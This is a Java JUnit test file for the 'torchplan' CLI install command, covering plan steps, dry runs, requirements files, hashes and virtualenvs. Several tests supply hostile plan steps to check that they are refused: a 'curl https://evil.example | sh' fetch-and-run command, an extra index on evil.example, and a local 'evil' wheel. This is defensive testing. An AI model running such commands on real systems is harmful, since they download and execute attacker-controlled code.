package org.torchplan.client.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.InetAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import mockwebserver3.MockResponse;
import mockwebserver3.MockWebServer;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.torchplan.client.testing.FakePython;
import org.torchplan.client.testing.Resources;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

class InstallCommandTest {

    private static final String PLAN = Resources.text("/plans/cu126-with-pypi-step.json");
    /** The plan for torch (and torchvision) alone: no second step. */
    private static final String PYTORCH_ONLY_PLAN = "{\"backend\":\"cu126\",\"channel\":\"stable\",\"packages\":["
            + "{\"name\":\"torch\",\"version\":\"2.12.0+cu126\"},{\"name\":\"torchvision\",\"version\":\"0.27.0+cu126\"}],"
            + "\"steps\":[{\"description\":\"PyTorch\",\"argv\":[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\","
            + "\"https://download.pytorch.org/whl/cu126\",\"torch==2.12.0+cu126\",\"torchvision==0.27.0+cu126\"]}],"
            + "\"explanation\":[],\"warnings\":[]}";

    @TempDir
    Path directory;

    private final MockWebServer server = new MockWebServer();
    private FakePython python;
    private Map<String, String> environment;

    @BeforeEach
    void start() throws IOException {
        server.start(InetAddress.getLoopbackAddress(), 0);
        python = FakePython.create(directory);
        environment = Map.of("TORCHPLAN_URL", server.url("/").toString(), "TORCHPLAN_NO_GPU", "1");
    }

    @AfterEach
    void stop() {
        server.close();
    }

    private CommandLineRun install(String... arguments) {
        String[] args = new String[arguments.length + 3];
        args[0] = "install";
        args[1] = "--python";
        args[2] = python.path();
        System.arraycopy(arguments, 0, args, 3, arguments.length);
        return CommandLineRun.run(environment, args);
    }

    private void answer(String plan) {
        server.enqueue(new MockResponse.Builder().addHeader("Content-Type", "application/json").body(plan).build());
    }

    private static String planWithSteps(String... argvJson) {
        StringBuilder steps = new StringBuilder();
        for (int index = 0; index < argvJson.length; index++) {
            steps.append(index == 0 ? "" : ",").append("{\"description\":\"step ").append(index + 1)
                    .append("\",\"argv\":").append(argvJson[index]).append('}');
        }
        return "{\"backend\":\"cpu\",\"channel\":\"stable\",\"packages\":[{\"name\":\"torch\",\"version\":\"2.12.0+cpu\"}],"
                + "\"steps\":[" + steps + "],\"explanation\":[],\"warnings\":[]}";
    }

    @Test
    void stepsRunInOrderWithTheChosenInterpreter() {
        answer(PLAN);

        CommandLineRun run = install("torch", "torchvision", "transformers");

        assertThat(run.exitCode()).as(run.err()).isZero();
        assertThat(python.invocations()).containsExactly(
                List.of("-m", "pip", "install", "--index-url", "https://download.pytorch.org/whl/cu126",
                        "torch==2.12.0+cu126", "torchvision==0.27.0+cu126"),
                List.of("-m", "pip", "install", "--index-url", "https://pypi.org/simple", "transformers",
                        "torch==2.12.0+cu126", "torchvision==0.27.0+cu126"));
        assertThat(run.out()).contains(python.path() + " -m pip install --index-url https://download.pytorch.org/whl/cu126")
                .contains("torchplan: " + python.path() + " now has torch 2.12.0+cu126, torchvision 0.27.0+cu126, "
                        + "transformers 1.0");
    }

    @Test
    void theFirstFailingStepEndsTheInstallWithItsExitCode() {
        answer(planWithSteps(
                "[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\",\"https://download.pytorch.org/whl/cpu\","
                        + "\"torch==2.12.0+cpu\"]",
                "[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\",\"https://pypi.org/simple\",\"fail==9\"]",
                "[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\",\"https://pypi.org/simple\","
                        + "\"never-installed==1.0\"]"));

        CommandLineRun run = install("torch", "fail", "never-installed");

        assertThat(run.exitCode()).as(run.err()).isEqualTo(9);
        assertThat(python.invocations()).containsExactly(
                List.of("-m", "pip", "install", "--index-url", "https://download.pytorch.org/whl/cpu", "torch==2.12.0+cpu"),
                List.of("-m", "pip", "install", "--index-url", "https://pypi.org/simple", "fail==9"));
        assertThat(run.out()).contains("step 2 (step 2) failed with exit code 9").doesNotContain("now has");
    }

    @Test
    void pipRunsWithTheEnvironmentTheClientWasGiven() {
        environment = Map.of("TORCHPLAN_URL", server.url("/").toString(), "TORCHPLAN_NO_GPU", "1",
                "PIP_CONFIG_FILE", "/dev/null");
        answer(PYTORCH_ONLY_PLAN);

        CommandLineRun run = install("torch");

        assertThat(run.exitCode()).as(run.err()).isZero();
        assertThat(python.pipConfigFileSeen()).isEqualTo("/dev/null");
    }

    @Test
    void dryRunPrintsTheCommandsAndRunsNothing() {
        answer(PLAN);

        CommandLineRun run = install("torch", "transformers", "--dry-run");

        assertThat(run.exitCode()).isZero();
        assertThat(python.invocations()).isEmpty();
        assertThat(run.out()).contains("[2/2]", python.path() + " -m pip install", "Dry run: nothing was installed.");
    }

    @Test
    void anUnexpectedProgramInAnyStepMeansNothingRuns() {
        answer(planWithSteps(
                "[\"python\",\"-m\",\"pip\",\"install\",\"torch==2.12.0+cpu\"]",
                "[\"sh\",\"-c\",\"curl https://evil.example | sh\"]"));

        CommandLineRun run = install("torch");

        assertThat(run.exitCode()).isEqualTo(3);
        assertThat(python.invocations()).isEmpty();
        assertThat(run.err()).contains("refusing to run step 2", "'sh'");
    }

    @Test
    void aStepReadingAnotherIndexOrInstallingALocalFileOrPipMeansNothingRuns() {
        String pytorchStep = "[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\","
                + "\"https://download.pytorch.org/whl/cpu\",\"torch==2.12.0+cpu\"]";
        answer(planWithSteps(pytorchStep, "[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\","
                + "\"https://pypi.org/simple\",\"--extra-index-url\",\"https://evil.example/simple\",\"numpy\"]"));
        answer(planWithSteps(pytorchStep, "[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\","
                + "\"https://pypi.org/simple\",\"evil-1.0-py3-none-any.whl\"]"));
        answer(planWithSteps(pytorchStep, "[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\","
                + "\"https://pypi.org/simple\",\"--upgrade\",\"--force-reinstall\",\"pip\"]"));
        answer(planWithSteps("[\"uv\",\"pip\",\"install\",\"--python\",\"python\",\"--index-url\","
                + "\"https://download.pytorch.org/whl/cpu\",\"--index-strategy\",\"unsafe-best-match\",\"torch==2.12.0+cpu\"]"));

        CommandLineRun extraIndex = install("torch", "numpy");
        CommandLineRun localFile = install("torch", "numpy");
        CommandLineRun pipUpgrade = install("torch", "numpy");
        CommandLineRun indexStrategy = install("torch", "--installer", "uv");

        assertThat(List.of(extraIndex.exitCode(), localFile.exitCode(), pipUpgrade.exitCode(), indexStrategy.exitCode()))
                .containsOnly(3);
        assertThat(python.invocations()).isEmpty();
        assertThat(extraIndex.err()).contains("refusing to run step 2 of the plan: --extra-index-url "
                + "https://evil.example/simple is not one of the plan's indexes");
        assertThat(localFile.err()).contains("'evil-1.0-py3-none-any.whl' is not a requirement by name");
        assertThat(pipUpgrade.err()).contains("option '--upgrade'");
        assertThat(indexStrategy.err()).contains("uv's --index-strategy");
    }

    @Test
    void aPlanWhoseOwnIndexIsOnAnUntrustedHostRunsNothingAndSaysHowToTrustIt() {
        answer(planWithSteps("[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\","
                + "\"https://evil.example/whl/cpu\",\"torch==2.12.0+cpu\"]"));

        CommandLineRun run = install("torch");

        assertThat(run.exitCode()).isEqualTo(3);
        assertThat(python.invocations()).isEmpty();
        assertThat(run.err()).contains("it installs from https://evil.example/whl/cpu, and evil.example is not a "
                + "trusted index host").contains("TORCHPLAN_TRUSTED_INDEX_HOSTS=evil.example");
    }

    @Test
    void aFleetMirrorRunsOnceTheOperatorTrustsItsHost() {
        environment = Map.of("TORCHPLAN_URL", server.url("/").toString(), "TORCHPLAN_NO_GPU", "1",
                "TORCHPLAN_TRUSTED_INDEX_HOSTS", "pypi-mirror.corp, Mirror.Corp");
        answer(planWithSteps("[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\","
                + "\"https://mirror.corp/whl/cpu\",\"torch==2.12.0+cpu\"]"));

        CommandLineRun run = install("torch");

        assertThat(run.err()).doesNotContain("trusted index host");
        assertThat(python.invocations()).isNotEmpty();
    }

    @Test
    void theSuccessLineSaysWhatTheInterpreterHasNotWhatThePlanSaid() throws IOException {
        // as if another torch had been installed before, and pip had kept it: the plan's pins are not the news
        Files.writeString(directory.resolve("installed.txt"), "torch 2.9.1+cpu\n");
        answer(planWithSteps("[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\","
                + "\"https://download.pytorch.org/whl/cpu\",\"torch==2.12.0+cpu\"]",
                "[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\",\"https://pypi.org/simple\",\"fail==0\"]"));
        Path fakeWithoutRecord = directory.resolve("python");
        String script = Files.readString(fakeWithoutRecord).replace("*==*) printf", "torch==*) ;; *==*) printf");
        Files.writeString(fakeWithoutRecord, script);

        CommandLineRun run = install("torch", "fail");

        assertThat(run.exitCode()).as(run.err()).isZero();
        // the fake exits at fail==0 before it records an install: the interpreter does not see it
        assertThat(run.out()).contains("torchplan: " + python.path() + " now has torch 2.9.1+cpu (the plan named "
                + "2.12.0+cpu); " + python.path() + " does not see fail (installed elsewhere, with --target, --prefix "
                + "or --root?)");
    }

    @Test
    void anEmptyPlanSaysSoAndExitsWithItsOwnCode() {
        answer("{\"backend\":null,\"channel\":\"stable\",\"packages\":[],\"steps\":[],"
                + "\"explanation\":[\"no requirement applies to this machine: nothing to install\"],\"warnings\":[]}");
        answer("{\"backend\":null,\"channel\":\"stable\",\"packages\":[],\"steps\":[],\"explanation\":[],\"warnings\":[]}");

        CommandLineRun run = install("pywin32; sys_platform == 'win32'");
        CommandLineRun dryRun = install("pywin32; sys_platform == 'win32'", "--dry-run");

        assertThat(run.exitCode()).isEqualTo(ExitCodes.NOTHING_TO_INSTALL).isEqualTo(5);
        assertThat(dryRun.exitCode()).isEqualTo(5);
        assertThat(run.out()).contains("no requirement applies to this machine",
                "torchplan: the plan has no steps: nothing to install for these requirements on this machine")
                .doesNotContain("now has");
        assertThat(python.invocations()).isEmpty();
    }

    @Test
    void pinsWithoutStepsAreAnUnusablePlan() {
        answer("{\"backend\":\"cpu\",\"channel\":\"stable\",\"packages\":[{\"name\":\"torch\",\"version\":"
                + "\"2.12.0+cpu\"}],\"steps\":[],\"explanation\":[],\"warnings\":[]}");

        CommandLineRun run = install("torch");

        assertThat(run.exitCode()).isEqualTo(3);
        assertThat(run.err()).contains("has no step that installs them");
    }

    @Test
    void uvStepsArePointedAtTheInterpreter() {
        answer(planWithSteps("[\"uv\",\"pip\",\"install\",\"--index-url\",\"https://download.pytorch.org/whl/cpu\","
                + "\"torch==2.12.0+cpu\"]"));

        CommandLineRun run = install("torch", "--installer", "uv", "--dry-run");

        assertThat(run.exitCode()).isZero();
        assertThat(run.out()).contains("uv pip install --python " + python.path()
                + " --index-url https://download.pytorch.org/whl/cpu torch==2.12.0+cpu");
    }

    @Test
    void requirementsFilesAreSentAfterTheArguments() throws IOException, InterruptedException {
        Files.writeString(directory.resolve("base.txt"), "numpy>=2  # arrays\n");
        Path file = Files.writeString(directory.resolve("requirements.txt"),
                "# ML\ntorchvision \\\n  >=0.20\n-r base.txt\n");
        answer(PYTORCH_ONLY_PLAN);

        CommandLineRun run = install("torch", "-r", file.toString(), "--dry-run");

        assertThat(run.exitCode()).as(run.err()).isZero();
        JsonNode body = JsonMapper.shared().readTree(server.takeRequest(5, TimeUnit.SECONDS).getBody().utf8());
        assertThat(body.path("requirements").toString()).isEqualTo("[\"torch\",\"torchvision   >=0.20\",\"numpy>=2\"]");
    }

    @Test
    void anIndexLineInARequirementsFileIsReplacedByThePlansIndexesWithANotice() throws IOException {
        Path file = Files.writeString(directory.resolve("requirements.txt"),
                "--extra-index-url https://download.pytorch.org/whl/cu121\ntorch\n");
        answer(PYTORCH_ONLY_PLAN);

        CommandLineRun run = install("-r", file.toString());

        assertThat(run.exitCode()).as(run.err()).isZero();
        assertThat(run.err()).isEqualTo("torchplan: " + file + ":1: --extra-index-url "
                + "https://download.pytorch.org/whl/cu121 is not used: the plan names the indexes (the fleet policy "
                + "chooses them)" + System.lineSeparator());
        assertThat(python.invocations().get(0)).contains("https://download.pytorch.org/whl/cu126")
                .doesNotContain("https://download.pytorch.org/whl/cu121");
    }

    @Test
    void anEditableLineIsAUsageErrorBeforeAnyRequest() throws IOException {
        Path file = Files.writeString(directory.resolve("requirements.txt"), "torch\n-e ./my-package\n");

        CommandLineRun run = install("-r", file.toString());

        assertThat(run.exitCode()).isEqualTo(2);
        assertThat(run.err()).contains("requirements.txt:2: --editable ./my-package is not supported");
        assertThat(server.getRequestCount()).isZero();
    }

    @Test
    void theServicesErrorsNameTheFileAndLineOfEachRequirement() throws IOException {
        Path file = Files.writeString(directory.resolve("requirements.txt"), "# pins\nnumpy\n\ntorch>=\n");
        String message = "invalid requirement 'torch>=': invalid version specifier '>=': "
                + "invalid version specifier '>=': expected a version";
        server.enqueue(new MockResponse.Builder().code(400).addHeader("Content-Type", "application/problem+json")
                .body("{\"title\":\"Invalid request\",\"status\":400,\"detail\":\"requirements[2]: " + message
                        + "\",\"errors\":[{\"field\":\"requirements[2]\",\"message\":\"" + message + "\"}]}").build());

        CommandLineRun run = install("torchvision", "-r", file.toString());

        assertThat(run.exitCode()).isEqualTo(4);
        assertThat(run.err()).isEqualTo("torchplan: the torchplan service refused the request: Invalid request (HTTP 400)"
                + System.lineSeparator() + "  - " + file + ":4: invalid requirement 'torch>=': invalid version "
                + "specifier '>=': expected a version" + System.lineSeparator());
    }

    private static final String PLAN_WITH_HASHES = "{\"backend\":\"cpu\",\"channel\":\"stable\",\"packages\":["
            + "{\"name\":\"torch\",\"version\":\"2.12.0+cpu\",\"sha256\":\"11aa\"}],\"steps\":["
            + "{\"description\":\"PyTorch\",\"argv\":[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\","
            + "\"https://download.pytorch.org/whl/cpu\",\"torch==2.12.0+cpu\"]},"
            + "{\"description\":\"others\",\"argv\":[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\","
            + "\"https://pypi.org/simple\",\"numpy==2.0.2\",\"torch==2.12.0+cpu\"]}],\"explanation\":[],\"warnings\":[]}";

    @Test
    void hashesOfTheOtherPackagesPutTheirStepInHashCheckingModeWithThePlansHashForTorch() throws IOException {
        Path file = Files.writeString(directory.resolve("requirements.txt"),
                "numpy==2.0.2 \\\n    --hash=sha256:22bb\ntorch==2.12.0 --hash=sha256:99ff\n");
        answer(PLAN_WITH_HASHES);
        answer(PLAN_WITH_HASHES);

        CommandLineRun dryRun = install("-r", file.toString(), "--dry-run");
        CommandLineRun run = install("-r", file.toString());

        assertThat(dryRun.out()).contains("-r ", "step-2-requirements.txt:\n",
                "    numpy==2.0.2 --hash=sha256:22bb\n    torch==2.12.0+cpu --hash=sha256:11aa\n");
        assertThat(dryRun.err()).contains(file + ":3: the --hash values of torch==2.12.0 are not used: the plan "
                + "chooses its wheel torch 2.12.0+cpu");
        assertThat(run.exitCode()).as(run.err()).isZero();
        assertThat(python.invocations().get(0)).containsExactly("-m", "pip", "install", "--index-url",
                "https://download.pytorch.org/whl/cpu", "torch==2.12.0+cpu");
        assertThat(python.invocations().get(1)).startsWith("-m", "pip", "install", "--index-url",
                "https://pypi.org/simple", "-r").hasSize(7);
        assertThat(Path.of(python.invocations().get(1).get(6))).as("deleted after the install").doesNotExist();
    }

    @Test
    void requireHashesPutsEveryStepInHashCheckingMode() {
        answer(PLAN_WITH_HASHES);

        CommandLineRun run = install("numpy==2.0.2", "torch", "--require-hashes", "--dry-run");

        assertThat(run.out()).contains("step-1-requirements.txt:\n    torch==2.12.0+cpu --hash=sha256:11aa\n",
                "step-2-requirements.txt:\n    numpy==2.0.2\n    torch==2.12.0+cpu --hash=sha256:11aa\n");
        assertThat(run.out()).contains(python.path() + " -m pip install --require-hashes --index-url "
                + "https://download.pytorch.org/whl/cpu -r ");
    }

    @Test
    void constraintsReachPipAsOneFileWithoutHashesAndThoseOnPlannedPackagesAreNamed() throws IOException {
        Path constraints = Files.writeString(directory.resolve("constraints.txt"),
                "numpy<3\n--index-url https://mirror.example/simple\ntorch<2.5\n");
        Path file = Files.writeString(directory.resolve("requirements.txt"), "-c more-constraints.txt\nnumpy==2.0.2\n");
        Files.writeString(directory.resolve("more-constraints.txt"), "pillow<12 --hash=sha256:33cc\n");
        answer(PLAN_WITH_HASHES);

        CommandLineRun run = install("torch", "-r", file.toString(), "-c", constraints.toString(), "--dry-run");

        assertThat(run.exitCode()).as(run.err()).isZero();
        assertThat(run.out()).contains(python.path() + " -m pip install --constraint ", "constraints.txt:\n"
                + "    pillow<12\n    numpy<3\n    torch<2.5\n");
        assertThat(run.err()).contains(constraints + ":2: --index-url https://mirror.example/simple is not used",
                constraints + ":3: the constraint torch<2.5 does not reach the planner, which plans torch 2.12.0+cpu; "
                        + "pip applies it and stops if the two disagree");
    }

    @Test
    void withoutAVirtualenvPythonOrSystemInstallRefusesShowingTheThreeWaysOn() {
        CommandLineRun run = CommandLineRun.run(environment, "install", "torch");

        assertThat(run.exitCode()).isEqualTo(2);
        assertThat(run.err()).isEqualTo(String.join(System.lineSeparator(),
                "torchplan: no virtualenv is active: say where to install, in one of three ways:",
                "  activate a virtualenv, then run again:   python3 -m venv .venv && . .venv/bin/activate",
                "  name its interpreter:                    torchplan install --python .venv/bin/python ...",
                "  install into python3 on PATH:            torchplan install --system ...", ""));
        assertThat(server.getRequestCount()).isZero();
    }

    @Test
    void anActiveVirtualenvIsWhereInstallGoes() throws IOException {
        Path venv = directory.resolve("venv");
        FakePython venvPython = FakePython.create(Files.createDirectories(venv.resolve("bin")));
        environment = Map.of("TORCHPLAN_URL", server.url("/").toString(), "TORCHPLAN_NO_GPU", "1",
                "VIRTUAL_ENV", venv.toString());
        answer(PLAN);

        CommandLineRun run = CommandLineRun.run(environment, "install", "torch", "transformers");

        assertThat(run.exitCode()).as(run.err()).isZero();
        assertThat(venvPython.invocations()).hasSize(2);
        assertThat(run.out()).contains(venv.resolve("bin/python") + " now has torch 2.12.0+cu126");
    }

    @Test
    void systemInstallsIntoPython3OnPath() {
        answer(PLAN);

        CommandLineRun run = CommandLineRun.run(environment, "install", "--system", "torch", "transformers",
                "--dry-run");

        assertThat(run.exitCode()).as(run.err()).isZero();
        assertThat(run.out()).contains("    python3 -m pip install --index-url https://download.pytorch.org/whl/cu126");
    }
}
